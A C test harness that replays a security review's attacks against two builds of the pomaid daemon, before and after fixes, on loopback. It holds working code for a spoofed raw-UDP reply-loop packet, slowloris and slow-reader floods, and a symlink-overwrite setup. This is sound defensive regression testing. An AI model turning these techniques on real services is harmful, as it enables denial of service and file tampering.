/* SPDX-License-Identifier: MIT
 *
 * attack_review.c — issue 14's attack review, re-run: each attack the review
 * reproduced against a release build, run against two pomaid binaries side by
 * side in one process (the build before the fixes and the build after), so the
 * before/after numbers in perf/RESULTS.md come from one run on one machine.
 *
 *   attack_review BEFORE_POMAID AFTER_POMAID [--quick]
 *
 * For every scenario the two daemons run one after the other (same ports, same
 * data, same client code), before first:
 *   1. reply loop: one request datagram forged to come from shard 1's port to
 *      shard 0 (raw socket; root). Reported: pomaid's CPU-seconds and frames
 *      received over the next second (a loop: ~1 CPU-s, ~10^5 frames).
 *   2. TCP pipelining: 256 keys of 60,000-byte values over 2 shards (half
 *      forwarded); GETs pipelined on one connection at depths 20, 40 and 256.
 *      Reported: replies received within 10 s, whether the connection was
 *      closed, and whether a small GET on it is answered afterwards.
 *   3. slowloris: 600 connections from 127.0.0.2, each holding a partial frame
 *      and sending one more byte every 4 s, for 22 s; a polite client on
 *      127.0.0.1 connects and GETs every 500 ms. Reported: the polite client's
 *      successes, pomaid's tcp_* counters.
 *   4. slow readers: 500 connections from 127.0.0.3 each pipeline 40 GETs of
 *      60,000-byte values and never read. Reported: pomaid's RSS growth, the
 *      polite client's successes.
 *   5. symlinks: pomaid.stats.new in the data dir a symlink to a victim file.
 *      Reported: whether pomaid started and whether the victim was overwritten.
 *
 * Loopback only (127.0.0.1-3); starts and stops its own daemons by pid. About
 * two minutes (--quick: shorter slowloris, fewer connections).
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "codec.h"

#define SHARDS 2u
#define VALUE_BYTES 60000u
#define BIG_KEYS 256u
#define READY_TIMEOUT_MS 30000
#define REPLY_TIMEOUT_MS 10000
#define POLITE_TIMEOUT_MS 1000
#define POLITE_EVERY_MS 500
#define SLOWLORIS_TRICKLE_MS 4000
#define SLOW_READER_GETS 40u

static const char *bin[2];
static const char *side_name[2] = { "before", "after" };
static uint16_t base_port = 17400;
static bool quick;
static uint32_t slowloris_conns = 600, slowloris_ms = 22000, reader_conns = 500;

/* ---------------------------------------------------------------- time, processes */

static uint64_t now_ms(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000u + (uint64_t)t.tv_nsec / 1000000u;
}

static void pause_ms(uint32_t ms)
{
	struct timespec t = { ms / 1000u, (long)(ms % 1000u) * 1000000L };
	nanosleep(&t, NULL);
}

struct daemon {
	pid_t pid;
	char dir[64];
};

/* Start pomaid (binary `which`) on dir with 2 shards, TCP on base_port - 1;
 * extra flags after. True once its ready line is read. */
static bool start(struct daemon *d, int which, bool make_dir)
{
	if (make_dir) {
		snprintf(d->dir, sizeof(d->dir), "/tmp/pomai-attack-XXXXXX");
		if (!mkdtemp(d->dir))
			return false;
	}
	char base[16], tcp[16];
	snprintf(base, sizeof(base), "%u", base_port);
	snprintf(tcp, sizeof(tcp), "%u", base_port - 1u);
	int out[2];
	if (pipe(out) != 0)
		return false;
	fflush(stdout);
	pid_t pid = fork();
	if (pid == 0) {
		dup2(out[1], 1);
		int null = open("/dev/null", O_WRONLY);
		dup2(null, 2);
		close(out[0]);
		execl(bin[which], bin[which], "--shards", "2", "--bind", "127.0.0.1", "--base_port",
		      base, "--tcp_port", tcp, "--data_dir", d->dir, "--wal", "none", "--cores",
		      "0,1", (char *)NULL);
		_exit(127);
	}
	close(out[1]);
	d->pid = pid;
	char buf[4096] = { 0 };
	size_t n = 0;
	struct pollfd p = { .fd = out[0], .events = POLLIN };
	uint64_t until = now_ms() + READY_TIMEOUT_MS;
	while (!strchr(strstr(buf, "ready") ? strstr(buf, "ready") : "", '\n') && now_ms() < until &&
	       poll(&p, 1, 1000) >= 0 && n < sizeof(buf) - 1) {
		if (!(p.revents & (POLLIN | POLLHUP)))
			continue;
		ssize_t r = read(out[0], buf + n, sizeof(buf) - 1 - n);
		if (r <= 0)
			break;
		n += (size_t)r;
	}
	close(out[0]);
	return strstr(buf, "pomaid: ready") != NULL;
}

static void stop(struct daemon *d, bool remove_dir)
{
	if (d->pid > 0) {
		kill(d->pid, SIGTERM);
		uint64_t until = now_ms() + 10000;
		int st;
		while (waitpid(d->pid, &st, WNOHANG) == 0 && now_ms() < until)
			pause_ms(20);
		if (waitpid(d->pid, &st, WNOHANG) == 0) {
			kill(d->pid, SIGKILL);
			waitpid(d->pid, &st, 0);
		}
		d->pid = -1;
	}
	if (remove_dir) {
		char cmd[128];
		snprintf(cmd, sizeof(cmd), "rm -rf '%s'", d->dir);
		if (system(cmd) != 0)
			fprintf(stderr, "could not remove %s\n", d->dir);
	}
}

static double cpu_s(pid_t pid)
{
	char path[64], buf[1024];
	snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	FILE *f = fopen(path, "r");
	size_t n = f ? fread(buf, 1, sizeof(buf) - 1, f) : 0;
	if (f)
		fclose(f);
	buf[n] = '\0';
	const char *p = strrchr(buf, ')');
	unsigned long long ut, st;
	if (!p || sscanf(p + 2, "%*c %*d %*d %*d %*d %*d %*u %*u %*u %*u %*u %llu %llu", &ut,
			 &st) != 2)
		return -1;
	return (double)(ut + st) / (double)sysconf(_SC_CLK_TCK);
}

static long rss_kb(pid_t pid)
{
	char path[64], line[256];
	snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
	FILE *f = fopen(path, "r");
	long kb = -1;
	while (f && fgets(line, sizeof(line), f))
		if (!strncmp(line, "VmRSS:", 6))
			kb = atol(line + 6);
	if (f)
		fclose(f);
	return kb;
}

/* ---------------------------------------------------------------- UDP client */

static int udp_open(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct timeval tv = { 1, 0 };
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	return fd;
}

/* One INFO request to shard 0; a dataplane field of the Total section, or -1. */
static long long info_field(const char *name)
{
	static uint8_t buf[PM_FRAME_BYTES_MAX];
	int fd = udp_open();
	struct pm_wire_request r = { .op = PM_WIRE_OP_INFO, .id = 1,
				.section = { (const uint8_t *)"dataplane", 9 } };
	size_t n = pm_wire_request_encode(&r, buf, sizeof(buf));
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(base_port) };
	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
	long long v = -1;
	for (int attempt = 0; attempt < 5 && v < 0; attempt++) {
		sendto(fd, buf, n, 0, (struct sockaddr *)&to, sizeof(to));
		ssize_t got = recv(fd, buf, sizeof(buf), 0);
		struct pm_reply_view rv;
		size_t used;
		if (got <= 0 || pm_reply_decode(buf, (size_t)got, &rv, &used) != PM_WIRE_OK ||
		    rv.status != PM_WIRE_OK)
			continue;
		char text[PM_FRAME_BYTES_MAX], want[96];
		memcpy(text, rv.value.ptr, rv.value.len);
		text[rv.value.len] = '\0';
		snprintf(want, sizeof(want), "\n%s:", name);
		const char *p = strstr(text, want);
		v = p ? atoll(p + strlen(want)) : -2;
		n = pm_wire_request_encode(&r, buf, sizeof(buf)); /* buf was reused for the reply */
	}
	close(fd);
	return v;
}

/* ---------------------------------------------------------------- TCP client */

static int tcp_connect(const char *src)
{
	int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;
	if (fd < 0)
		return -1;
	setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
	if (src) {
		struct sockaddr_in me = { .sin_family = AF_INET };
		inet_pton(AF_INET, src, &me.sin_addr);
		if (bind(fd, (struct sockaddr *)&me, sizeof(me)) != 0) {
			close(fd);
			return -1;
		}
	}
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(base_port - 1u) };
	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

static bool write_all(int fd, const uint8_t *p, size_t n)
{
	while (n) {
		ssize_t w = send(fd, p, n, MSG_NOSIGNAL);
		if (w <= 0)
			return false;
		p += w;
		n -= (size_t)w;
	}
	return true;
}

/* Reply frames on a stream until `want` non-MORE replies, the deadline, or
 * the connection closes; the count, and *closed. */
static uint32_t read_replies(int fd, uint32_t want, int timeout_ms, bool *closed)
{
	static uint8_t in[4u << 20];
	size_t have = 0;
	uint32_t got = 0;
	uint64_t until = now_ms() + (uint64_t)timeout_ms;
	*closed = false;
	while (got < want && now_ms() < until) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		if (poll(&p, 1, (int)(until - now_ms())) <= 0)
			break;
		ssize_t r = recv(fd, in + have, sizeof(in) - have, 0);
		if (r <= 0) {
			*closed = true;
			break;
		}
		have += (size_t)r;
		size_t off = 0;
		for (;;) {
			struct pm_reply_view rv;
			size_t used = 0;
			(void)pm_reply_decode(in + off, have - off, &rv, &used);
			if (used == 0 || used > have - off)
				break;
			got += !rv.more;
			off += used;
		}
		memmove(in, in + off, have - off);
		have -= off;
	}
	return got;
}

static size_t enc_get(const char *key, uint64_t id, uint8_t *out, size_t cap)
{
	struct pm_wire_request g = { .op = PM_WIRE_OP_GET, .id = id,
				.key = { (const uint8_t *)key, (uint32_t)strlen(key) } };
	return pm_wire_request_encode(&g, out, cap);
}

/* A polite TCP client on 127.0.0.1: connect, one GET, its reply within
 * POLITE_TIMEOUT_MS. */
static bool polite_once(void)
{
	uint8_t f[64];
	int fd = tcp_connect(NULL);
	if (fd < 0)
		return false;
	size_t n = enc_get("polite", 5, f, sizeof(f));
	bool closed, ok = write_all(fd, f, n) && read_replies(fd, 1, POLITE_TIMEOUT_MS, &closed) == 1;
	close(fd);
	return ok;
}

static void big_key(uint32_t i, char *k, size_t cap)
{
	snprintf(k, cap, "big-%u", i);
}

/* 256 keys of VALUE_BYTES, one SET at a time over TCP. */
static bool load_big(void)
{
	static uint8_t v[VALUE_BYTES], f[VALUE_BYTES + 256];
	memset(v, 'v', sizeof(v));
	int fd = tcp_connect(NULL);
	bool ok = fd >= 0;
	for (uint32_t i = 0; ok && i < BIG_KEYS; i++) {
		char k[32];
		big_key(i, k, sizeof(k));
		struct pm_wire_request s = { .op = PM_WIRE_OP_SET, .id = 1000 + i,
					.key = { (const uint8_t *)k, (uint32_t)strlen(k) },
					.value = { v, sizeof(v) } };
		size_t n = pm_wire_request_encode(&s, f, sizeof(f));
		bool closed;
		ok = n && write_all(fd, f, n) && read_replies(fd, 1, REPLY_TIMEOUT_MS, &closed) == 1;
	}
	if (fd >= 0)
		close(fd);
	return ok;
}

/* ---------------------------------------------------------------- scenarios */

static void scenario_loop(int which)
{
	struct daemon d;
	if (!start(&d, which, true)) {
		printf("  %-6s reply loop: pomaid did not start\n", side_name[which]);
		stop(&d, true);
		return;
	}
	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0) {
		printf("  %-6s reply loop: no raw socket (%s); run as root\n", side_name[which],
		       strerror(errno));
		stop(&d, true);
		return;
	}
	uint8_t pkt[28 + 64];
	size_t n = enc_get("loop", 77, pkt + 28, sizeof(pkt) - 28);
	memset(pkt, 0, 28);
	pkt[0] = 0x45;
	pkt[8] = 64;
	pkt[9] = IPPROTO_UDP;
	inet_pton(AF_INET, "127.0.0.1", pkt + 12);
	inet_pton(AF_INET, "127.0.0.1", pkt + 16);
	uint16_t sp = htons((uint16_t)(base_port + 1)), dp = htons(base_port),
		 ul = htons((uint16_t)(8 + n));
	memcpy(pkt + 20, &sp, 2);
	memcpy(pkt + 22, &dp, 2);
	memcpy(pkt + 24, &ul, 2);
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = dp };
	inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
	long long rx0 = info_field("rx_frames");
	double c0 = cpu_s(d.pid);
	sendto(raw, pkt, 28 + n, 0, (struct sockaddr *)&to, sizeof(to));
	close(raw);
	pause_ms(1000);
	double c1 = cpu_s(d.pid);
	long long rx1 = info_field("rx_frames");
	pause_ms(2000);
	double c2 = cpu_s(d.pid);
	printf("  %-6s reply loop: one forged datagram -> %.2f CPU-s and %lld frames in the next"
	       " second; %.2f CPU-s/s two seconds later\n",
	       side_name[which], c1 - c0, rx1 - rx0 - 1, (c2 - c1) / 2.0);
	stop(&d, true);
}

static void scenario_pipeline(int which)
{
	static uint8_t frames[256 * 64];
	struct daemon d;
	if (!start(&d, which, true) || !load_big()) {
		printf("  %-6s pipelining: set-up failed\n", side_name[which]);
		stop(&d, true);
		return;
	}
	const uint32_t depths[] = { 20, 40, 256 };
	for (size_t i = 0; i < sizeof(depths) / sizeof(depths[0]); i++) {
		uint32_t depth = depths[i];
		int fd = tcp_connect(NULL);
		size_t n = 0;
		for (uint32_t j = 0; j < depth; j++) {
			char k[32];
			big_key(j % BIG_KEYS, k, sizeof(k));
			n += enc_get(k, 10000 + j, frames + n, sizeof(frames) - n);
		}
		bool closed = false, closed2 = false;
		uint32_t got = fd >= 0 && write_all(fd, frames, n) ?
				       read_replies(fd, depth, REPLY_TIMEOUT_MS, &closed) : 0;
		bool after = false;
		if (!closed && fd >= 0) {
			uint8_t f[64];
			size_t m = enc_get("small", 99999, f, sizeof(f));
			after = write_all(fd, f, m) && read_replies(fd, 1, 3000, &closed2) == 1;
		}
		printf("  %-6s pipelining: %3u GETs of %u bytes on one connection -> %3u replies,"
		       " connection %s, a small GET after: %s\n",
		       side_name[which], depth, VALUE_BYTES, got, closed ? "closed" : "open",
		       closed ? "-" : after ? "answered" : "NOT answered");
		if (fd >= 0)
			close(fd);
	}
	printf("  %-6s pipelining: dropped_ring_full %lld, dropped_tx_full %lld\n", side_name[which],
	       info_field("dropped_ring_full"), info_field("dropped_tx_full"));
	stop(&d, true);
}

static void scenario_slowloris(int which)
{
	struct daemon d;
	if (!start(&d, which, true)) {
		printf("  %-6s slowloris: pomaid did not start\n", side_name[which]);
		stop(&d, true);
		return;
	}
	int *fds = calloc(slowloris_conns, sizeof(int));
	uint8_t hdr[PM_FRAME_HEADER_BYTES + 8];
	struct pm_frame_header h = { .version = PM_FRAME_VERSION, .opcode = PM_OPCODE_SET,
				     .id = 1, .body_len = 4000 };
	pm_header_encode(&h, hdr);
	uint32_t open_n = 0;
	for (uint32_t i = 0; i < slowloris_conns; i++) {
		fds[i] = tcp_connect("127.0.0.2");
		if (fds[i] >= 0 && write_all(fds[i], hdr, 10))
			open_n++;
	}
	uint32_t sent = 10, tries = 0, ok = 0;
	uint64_t t0 = now_ms(), next_trickle = t0 + SLOWLORIS_TRICKLE_MS;
	while (now_ms() - t0 < slowloris_ms) {
		if (now_ms() >= next_trickle && sent < sizeof(hdr)) {
			for (uint32_t i = 0; i < slowloris_conns; i++)
				if (fds[i] >= 0 && !write_all(fds[i], hdr + sent, 1)) {
					close(fds[i]);
					fds[i] = -1;
				}
			sent++;
			next_trickle += SLOWLORIS_TRICKLE_MS;
		}
		tries++;
		ok += polite_once();
		pause_ms(POLITE_EVERY_MS);
	}
	uint32_t alive = 0;
	for (uint32_t i = 0; i < slowloris_conns; i++) {
		if (fds[i] >= 0) {
			char c;
			alive += recv(fds[i], &c, 1, MSG_DONTWAIT) != 0 || errno == EAGAIN;
			close(fds[i]);
		}
	}
	free(fds);
	printf("  %-6s slowloris: %u of %u connections opened; polite client served %u of %u"
	       " tries in %u s; %u attacker connections still open at the end\n",
	       side_name[which], open_n, slowloris_conns, ok, tries, slowloris_ms / 1000u, alive);
	/* -2: the counter does not exist in that build */
	printf("  %-6s slowloris: tcp_refused %lld tcp_stalled %lld tcp_idle_evicted %lld"
	       " tcp_addr_refused %lld tcp_frame_deadline %lld tcp_buffer_evicted %lld\n",
	       side_name[which], info_field("tcp_refused"), info_field("tcp_stalled"),
	       info_field("tcp_idle_evicted"), info_field("tcp_addr_refused"),
	       info_field("tcp_frame_deadline"), info_field("tcp_buffer_evicted"));
	stop(&d, true);
}

static void scenario_readers(int which)
{
	static uint8_t frames[SLOW_READER_GETS * 64];
	struct daemon d;
	if (!start(&d, which, true) || !load_big()) {
		printf("  %-6s slow readers: set-up failed\n", side_name[which]);
		stop(&d, true);
		return;
	}
	size_t n = 0;
	for (uint32_t j = 0; j < SLOW_READER_GETS; j++) {
		char k[32];
		big_key(j, k, sizeof(k));
		n += enc_get(k, 20000 + j, frames + n, sizeof(frames) - n);
	}
	long rss0 = rss_kb(d.pid);
	int *fds = calloc(reader_conns, sizeof(int));
	uint32_t open_n = 0;
	for (uint32_t i = 0; i < reader_conns; i++) {
		int rcv = 4096;
		fds[i] = tcp_connect("127.0.0.3");
		if (fds[i] < 0)
			continue;
		setsockopt(fds[i], SOL_SOCKET, SO_RCVBUF, &rcv, sizeof(rcv));
		int fl = fcntl(fds[i], F_GETFL);
		fcntl(fds[i], F_SETFL, fl | O_NONBLOCK);
		open_n += send(fds[i], frames, n, MSG_NOSIGNAL) > 0;
	}
	uint32_t tries = 0, ok = 0;
	long peak = rss0;
	for (uint64_t t0 = now_ms(); now_ms() - t0 < 5000;) {
		tries++;
		ok += polite_once();
		long r = rss_kb(d.pid);
		peak = r > peak ? r : peak;
		pause_ms(POLITE_EVERY_MS);
	}
	for (uint32_t i = 0; i < reader_conns; i++)
		if (fds[i] >= 0)
			close(fds[i]);
	free(fds);
	printf("  %-6s slow readers: %u connections each pipelining %u GETs of %u bytes, never"
	       " reading: RSS %ld -> peak %ld KB (+%ld MB); polite client served %u of %u\n",
	       side_name[which], open_n, SLOW_READER_GETS, VALUE_BYTES, rss0, peak,
	       (peak - rss0) / 1024, ok, tries);
	stop(&d, true);
}

static void scenario_symlink(int which)
{
	struct daemon d;
	snprintf(d.dir, sizeof(d.dir), "/tmp/pomai-attack-XXXXXX");
	char victim[] = "/tmp/pomai-victim-XXXXXX", link[128];
	int vfd = mkstemp(victim);
	if (!mkdtemp(d.dir) || vfd < 0 || write(vfd, "precious\n", 9) != 9) {
		printf("  %-6s symlink: set-up failed\n", side_name[which]);
		return;
	}
	close(vfd);
	snprintf(link, sizeof(link), "%s/pomaid.stats.new", d.dir);
	if (symlink(victim, link) != 0)
		printf("  %-6s symlink: %s\n", side_name[which], strerror(errno));
	bool started = start(&d, which, false);
	stop(&d, true);
	struct stat st;
	bool intact = stat(victim, &st) == 0 && st.st_size == 9;
	printf("  %-6s symlink: pomaid.stats.new -> a victim file: pomaid %s; victim %s\n",
	       side_name[which], started ? "started" : "refused to start",
	       intact ? "intact" : "OVERWRITTEN");
	unlink(victim);
}

int main(int argc, char **argv)
{
	if (argc < 3) {
		fprintf(stderr, "usage: attack_review BEFORE_POMAID AFTER_POMAID [--quick]\n");
		return 2;
	}
	bin[0] = argv[1];
	bin[1] = argv[2];
	quick = argc > 3 && !strcmp(argv[3], "--quick");
	if (quick)
		slowloris_conns = 300, slowloris_ms = 10000, reader_conns = 200;
	struct rlimit rl = { 8192, 8192 };
	if (setrlimit(RLIMIT_NOFILE, &rl) != 0)
		fprintf(stderr, "attack_review: cannot raise the file limit: %s\n", strerror(errno));
	signal(SIGPIPE, SIG_IGN);
	struct utsname u;
	uname(&u);
	printf("attack_review %s %s%s\nmachine: %s %s, %ld CPUs\n", argv[1], argv[2],
	       quick ? " --quick" : "", u.nodename, u.release, sysconf(_SC_NPROCESSORS_ONLN));
	void (*const scenarios[])(int) = { scenario_loop, scenario_pipeline, scenario_slowloris,
					   scenario_readers, scenario_symlink };
	for (size_t s = 0; s < sizeof(scenarios) / sizeof(scenarios[0]); s++)
		for (int which = 0; which < 2; which++)
			scenarios[s](which);
	return 0;
}
